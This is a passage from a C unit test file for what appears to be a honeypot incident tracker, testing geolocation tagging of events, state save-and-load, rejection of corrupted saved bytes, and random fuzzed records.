static void test_place_of_another(void **state)
{
	struct record r = record_at(EVENT_LOGIN, 0, DIRECTION_INBOUND, outside(9), pot(1), 22);
	json_t *root;

	(void)state;
	r.head.app_proto = text_of("ssh");
	r.login.user = text_of("root");
	r.login.password = text_of("x");
	r.login.result = text_of("success");
	r.login.placed = pot(1);
	r.login.country = text_of("DE");
	send_record(&r, NULL);
	root = last_told("\"stage\":\"opened\"");
	assert_null(json_object_get(root, "geo"));
	json_decref(root);
}

static void test_place_of_a_source(void **state)
{
	json_t *root;

	(void)state;
	place(0, outside(3), "FR", 64501, "Other");
	flow(1, DIRECTION_INBOUND, outside(3), pot(1), 445, 1, REASON_INBOUND);
	finish();
	root = last_told("\"event_type\":\"source\"");
	check_place(json_object_get(root, "geo"), "FR", 64501, "Other");
	json_decref(root);
}

/* Names as long as they may be, of bytes that take most room, for as many as a record has room for. */
static void test_long_places(void **state)
{
	char name[200];

	(void)state;
	memset(name, 1, sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	for (unsigned i = 0; i < 20; i++) {
		place(i, outside(30 + i), "\1\1\1", UINT32_MAX, name);
		bring(i + 0.5, 30 + i, "bb");
	}
	tell_bot();
	finish();
	assert_true(count_told("\"more_remotes\":") > 0);
}

/* More than there is room for: those of whom was heard last are known. */
static void test_many_places(void **state)
{
	struct record r = record_at(EVENT_FINGERPRINT, 0, DIRECTION_INBOUND, pot(1), pot(1), 22);
	json_t *root;

	(void)state;
	place(0, outside(8), "NL", 0, "");
	r.fingerprint.country = text_of("XX");
	for (uint32_t i = 0; i < 3 * PLACES_MAX; i++) {
		r.fingerprint.subject = ip_from_v4(
			(uint8_t[]){ 1, (uint8_t)(i >> 16), (uint8_t)(i >> 8), (uint8_t)i });
		give(&(struct sent){ .record = r });
	}
	place(1, outside(9), "DE", 0, "");
	save_and_load();
	login(2, outside(8), 1, "x", "success");
	login(3, outside(9), 2, "y", "success");
	root = last_told("\"stage\":\"opened\"");
	check_place(json_object_get(root, "geo"), "DE", 0, "");
	json_decref(root);
	assert_int_equal(count_told("\"country\":\"NL\""), 0);
}

/* ---- saved at any time ---- */

/* Saved and loaded at every place: the rest is as it was without. */
static void check_saving(void)
{
	char **expected = calloc(TOLD_MAX, sizeof(*expected));
	size_t n_expected, total = n_sent;

	assert_non_null(expected);
	finish();
	n_expected = n_told;
	for (size_t i = 0; i < n_told; i++)
		expected[i] = strdup(told[i]);
	for (size_t at = 0; at <= total; at++) {
		forget_told();
		incidents_free(in);
		assert_int_equal(incidents_new(&in), 0);
		for (size_t i = 0; i < total; i++) {
			if (i == at)
				save_and_load();
			give(&sent[i]);
		}
		assert_int_equal(incidents_told(in), n_told);
		finish();
		assert_int_equal(n_told, n_expected);
		for (size_t i = 0; i < n_told; i++)
			assert_string_equal(told[i], expected[i]);
	}
	for (size_t i = 0; i < n_expected; i++)
		free(expected[i]);
	free(expected);
}

static void test_saved(void **state)
{
	(void)state;
	place(-1, outside(8), "NL", 64500, "Example");
	place(-1, outside(3), "DE", 0, "");
	tell_bot();
	tell_exploit();
	for (unsigned i = 0; i < 8; i++)
		flow(2000 + i, DIRECTION_INBOUND, outside(3), pot(i), 445, i % 2, REASON_INBOUND);
	login(2010, outside(21), 2, "x", "success");
	clock_at(5000);
	clock_at(40000);
	login(40001, outside(22), 2, "x", "success");
	check_saving();
}

/* Bytes that were changed anywhere are refused, or harmless. */
static void test_damaged(void **state)
{
	size_t size;
	uint8_t *bytes, *changed;
	unsigned refused = 0;

	(void)state;
	tell_bot();
	size = incidents_save_size(in);
	bytes = malloc(size);
	changed = malloc(size);
	assert_non_null(bytes);
	assert_non_null(changed);
	assert_int_equal(incidents_save(in, bytes, size), size);
	srandom(3);
	for (unsigned i = 0; i < 200; i++) {
		/* Not only in what was seen, which may be anything and is most of it. */
		size_t at = (size_t)random() % (i % 2 ? 256 : size / 2);

		if (i % 2 == 0)
			at = size - 1 - at;
		memcpy(changed, bytes, size);
		changed[at] ^= (uint8_t)(1 + random() % 255);
		if (incidents_load(in, changed, size) < 0) {
			refused++;
			continue;
		}
		n_sent = 0;
		tell_bot();
		forget_told();
	}
	free(bytes);
	free(changed);
	print_message("%u refused\n", refused);
	assert_in_range(refused, 10, 199);
}

/* Records of every kind, with anything in them. */
static void test_random(void **state)
{
	(void)state;
	srandom(5);
	for (unsigned i = 0; i < 20000; i++) {
		struct record record;
		static const char *const json[] = { "", "{}", "{", "[]",
			"{\"fileinfo\":{\"sha256\":1}}",
			"{\"fileinfo\":{\"sha256\":\"\\u0000\",\"size\":-5}}",
			"{\"http\":{\"url\":\"\\u001b\"}}", "{\"telnet\":{\"command\":\"\"}}" };

		random_record(&record);
		(void)incidents_take(in, &record, text_of(json[random() % 8]));
		take_what_follows();
		if (n_told > TOLD_MAX / 2)
			forget_told();
		if (i % 1000 == 0)
			save_and_load();
	}
	finish();
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(test_exploit),
		TEST(test_gate_record),
		TEST(test_bot),
		TEST(test_scan),
		TEST(test_worm),
		TEST(test_human),
		TEST(test_typing_program),
		TEST(test_refused),
		TEST(test_roach_motel),
		TEST(test_rewritten),
		TEST(test_backdoor),
		TEST(test_backdoor_told_late),
		TEST(test_knock_is_no_backdoor),
		TEST(test_joined),
		TEST(test_password_set),
		TEST(test_same_file_elsewhere),
		TEST(test_many_remotes),
		TEST(test_weak_password),
		TEST(test_password_that_becomes_known),
		TEST(test_guessed),
		TEST(test_many_guesses),
		TEST(test_entry_told_late),
		TEST(test_housekeeping),
		TEST(test_crowded),
		TEST(test_spoofed_first),
		TEST(test_scan_of_unlisted),
		TEST(test_many_sources),
		TEST(test_chosen_sources),
		TEST(test_idle),
		TEST(test_places),
		TEST(test_place_of_another),
		TEST(test_place_of_a_source),
		TEST(test_long_places),
		TEST(test_many_places),
		TEST(test_saved),
		TEST(test_damaged),
		TEST(test_random),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
